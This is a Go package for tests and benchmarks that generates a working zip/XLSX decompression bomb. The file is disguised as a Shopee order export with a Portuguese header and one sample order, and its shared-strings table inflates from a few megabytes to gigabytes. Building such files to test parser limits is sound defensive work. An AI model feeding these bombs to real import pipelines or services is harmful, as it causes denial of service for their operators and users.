// Package xlsxbomb writes hostile workbooks for tests and benchmarks: a
// Shopee-looking export (sheet "orders", Shopee's header and one order)
// whose shared string table goes on with millions of repeated entries.
// The entries are deflated once and the compressed block repeated, so a
// table of hundreds of millions of entries takes a second to write and a
// couple of MB on disk, while a reader that trusts it inflates gigabytes.
package xlsxbomb

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"fmt"
	"hash/crc32"
	"io"
	"os"
	"strings"
)

const mainNS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"

// ShopeeHeader is the start of Shopee's Order.all header.
var ShopeeHeader = []string{"ID do pedido", "Status do pedido", "Data de criação do pedido", "Nome do Produto",
	"Número de referência SKU", "Preço acordado", "Quantidade", "Subtotal do produto", "Total global",
	"Nome de usuário (comprador)", "Nome do destinatário", "Telefone", "CPF do Comprador", "Endereço de entrega", "CEP"}

// Empty is the entry of the classic bomb: an empty shared string.
const Empty = "<si/>"

// deflateSegment deflates data as a run of non-final blocks that need no
// earlier output, so segments can be laid end to end, and repeated.
func deflateSegment(data []byte) ([]byte, error) {
	var buf bytes.Buffer
	w, err := flate.NewWriter(&buf, flate.BestCompression)
	if err != nil {
		return nil, err
	}
	if _, err := w.Write(data); err != nil {
		return nil, err
	}
	if err := w.Flush(); err != nil {
		return nil, err
	}
	return buf.Bytes(), nil
}

// finalBlock ends a deflate stream: an empty stored block marked final.
var finalBlock = []byte{0x01, 0x00, 0x00, 0xff, 0xff}

// Write writes the workbook to path with n copies of item (Empty for the
// classic bomb) after the strings the sheet uses.
func Write(path string, n int64, item string) (err error) {
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	defer func() {
		if cerr := f.Close(); err == nil {
			err = cerr
		}
	}()
	z := zip.NewWriter(f)
	put := func(name, body string) error {
		w, err := z.Create(name)
		if err != nil {
			return err
		}
		_, err = io.WriteString(w, body)
		return err
	}
	parts := [][2]string{
		{"[Content_Types].xml", `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet2.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>`},
		{"_rels/.rels", `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`},
		{"xl/workbook.xml", `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<workbook xmlns="` + mainNS + `" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="orders" sheetId="1" r:id="rId1"/></sheets></workbook>`},
		{"xl/_rels/workbook.xml.rels", `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet2.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>`},
	}
	for _, p := range parts {
		if err := put(p[0], p[1]); err != nil {
			return err
		}
	}

	order := []string{"2602011ABCDEFG", "Concluído", "2026-02-01 10:00", "Boneca", "SKU1", "65.00", "1", "65.00", "80.00",
		"comprador1", "Maria Silva", "5511999990000", "12345678909", "Rua A, 1", "01000-000"}
	var sheet, sst strings.Builder
	sheet.WriteString(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="` + mainNS + `"><sheetData>`)
	sst.WriteString(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?><sst xmlns="` + mainNS + `">`)
	k := 0
	for r, row := range [][]string{ShopeeHeader, order} {
		fmt.Fprintf(&sheet, `<row r="%d">`, r+1)
		for c, v := range row {
			fmt.Fprintf(&sheet, `<c r="%c%d" t="s"><v>%d</v></c>`, 'A'+c, r+1, k)
			sst.WriteString("<si><t>" + v + "</t></si>")
			k++
		}
		sheet.WriteString(`</row>`)
	}
	sheet.WriteString(`</sheetData></worksheet>`)
	if err := put("xl/worksheets/sheet2.xml", sheet.String()); err != nil {
		return err
	}

	const per = 64 << 10 // entries per repeated chunk
	chunk := bytes.Repeat([]byte(item), per)
	head, tail := []byte(sst.String()), []byte("</sst>")
	reps := n / per
	rest := bytes.Repeat([]byte(item), int(n%per))
	crc := crc32.Update(0, crc32.IEEETable, head)
	for range reps {
		crc = crc32.Update(crc, crc32.IEEETable, chunk)
	}
	crc = crc32.Update(crc, crc32.IEEETable, rest)
	crc = crc32.Update(crc, crc32.IEEETable, tail)
	var seg [4][]byte
	for i, b := range [][]byte{head, chunk, rest, tail} {
		if seg[i], err = deflateSegment(b); err != nil {
			return err
		}
	}
	dHead, dChunk, dRest, dTail := seg[0], seg[1], seg[2], seg[3]
	w, err := z.CreateRaw(&zip.FileHeader{
		Name: "xl/sharedStrings.xml", Method: zip.Deflate, CRC32: crc,
		CompressedSize64:   uint64(len(dHead)+len(dRest)+len(dTail)+len(finalBlock)) + uint64(reps)*uint64(len(dChunk)),
		UncompressedSize64: uint64(len(head)+len(rest)+len(tail)) + uint64(reps)*uint64(len(chunk)),
	})
	if err != nil {
		return err
	}
	if _, err := w.Write(dHead); err != nil {
		return err
	}
	for range reps {
		if _, err := w.Write(dChunk); err != nil {
			return err
		}
	}
	for _, b := range [][]byte{dRest, dTail, finalBlock} {
		if _, err := w.Write(b); err != nil {
			return err
		}
	}
	return z.Close()
}
